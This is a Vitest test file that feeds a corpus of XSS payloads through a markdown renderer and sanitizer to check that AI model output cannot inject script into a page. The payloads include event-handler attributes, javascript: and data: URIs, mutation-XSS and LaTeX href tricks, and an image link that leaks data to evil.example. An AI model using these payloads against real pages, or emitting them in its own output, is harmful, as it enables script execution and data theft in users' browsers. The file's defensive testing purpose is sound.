// @ts-check
// XSS corpus: model output must never run script or carry dangerous attributes into the DOM.
import { describe, expect, it } from "vitest";
import { IncrementalMarkdown, renderMarkdown } from "./markdown.js";
import { sanitize } from "./sanitize.js";

const CORPUS = [
  "<script>window.__xss = 1</script>",
  '<img src=x onerror="window.__xss=1">',
  '<svg onload="window.__xss=1"><circle r=1 /></svg>',
  "<svg><script>window.__xss=1</script></svg>",
  '<iframe src="javascript:window.__xss=1"></iframe>',
  '<a href="javascript:window.__xss=1">click</a>',
  "[click](javascript:window.__xss=1)",
  "[click](JaVaScRiPt:window.__xss=1)",
  "[click](  javascript:window.__xss=1)",
  "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[click](vbscript:msgbox)",
  "![x](javascript:window.__xss=1)",
  '![x" onerror="window.__xss=1](https://example.com/a.png)',
  "![tracker](https://evil.example/leak?d=secret)",
  '<details open ontoggle="window.__xss=1">',
  "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>",
  '<a href="#" onclick="window.__xss=1">x</a>',
  '[a](https://ok.example "title" onclick=alert(1))',
  "<form action=javascript:alert(1)><button>x</button></form>",
  "$\\href{javascript:alert(1)}{x}$",
  "$$\\htmlClass{x}{y}\\url{javascript:alert(1)}$$",
  "```html\n<script>window.__xss=1</script>\n```",
  "<style>body{display:none}</style>",
  '<object data="javascript:alert(1)"></object>',
  "<<script>script>window.__xss=1<</script>/script>",
];

function assertSafe(root) {
  for (const el of root.querySelectorAll("*")) {
    const tag = el.tagName.toLowerCase();
    expect(["script", "iframe", "object", "embed", "style", "form", "img", "foreignobject"]).not.toContain(tag);
    for (const attr of el.attributes) {
      expect(attr.name.startsWith("on"), `${tag} has ${attr.name}`).toBe(false);
      if (["href", "src", "xlink:href", "action", "formaction", "data"].includes(attr.name)) {
        expect(attr.value.trim()).toMatch(/^(https?:|mailto:|#)/i);
      }
    }
    if (tag === "a" && el.hasAttribute("href")) {
      expect(el.getAttribute("rel")).toBe("noopener noreferrer");
      expect(el.getAttribute("target")).toBe("_blank");
    }
  }
}

describe("sanitization", () => {
  for (const payload of CORPUS) {
    it(`neutralizes ${JSON.stringify(payload).slice(0, 60)}`, () => {
      const el = document.createElement("div");
      el.innerHTML = renderMarkdown(payload);
      assertSafe(el);
      // streamed token by token through the incremental renderer as well
      const live = document.createElement("div");
      const r = new IncrementalMarkdown(live);
      for (let i = 1; i <= payload.length; i++) r.update(payload.slice(0, i));
      assertSafe(live);
      expect(globalThis.__xss).toBeUndefined();
    });
  }

  it("raw HTML from the model is shown as text", () => {
    const el = document.createElement("div");
    el.innerHTML = renderMarkdown("<b>bold?</b>");
    expect(el.querySelector("b")).toBeNull();
    expect(el.textContent).toContain("<b>bold?</b>");
  });

  it("safe links keep their href and open safely", () => {
    const el = document.createElement("div");
    el.innerHTML = renderMarkdown("[docs](https://example.com/x) and https://auto.example");
    const links = el.querySelectorAll("a");
    expect(links.length).toBe(2);
    expect(links[0].getAttribute("href")).toBe("https://example.com/x");
    assertSafe(el);
  });

  it("images become links with the alt text, never loaded", () => {
    const el = document.createElement("div");
    el.innerHTML = renderMarkdown("![a cat](https://example.com/cat.png)");
    expect(el.querySelector("img")).toBeNull();
    expect(el.querySelector("a.nbstream-image-link").textContent).toBe("[image: a cat]");
  });

  it("the sanitizer itself strips what markdown-it would never emit", () => {
    const out = sanitize(
      '<a href="javascript:alert(1)" onclick="x()">x</a><svg><foreignObject><script>1</script></foreignObject></svg><p style="color:red">ok</p>',
    );
    const el = document.createElement("div");
    el.innerHTML = out;
    assertSafe(el);
    expect(el.querySelector("p").textContent).toBe("ok");
  });
});
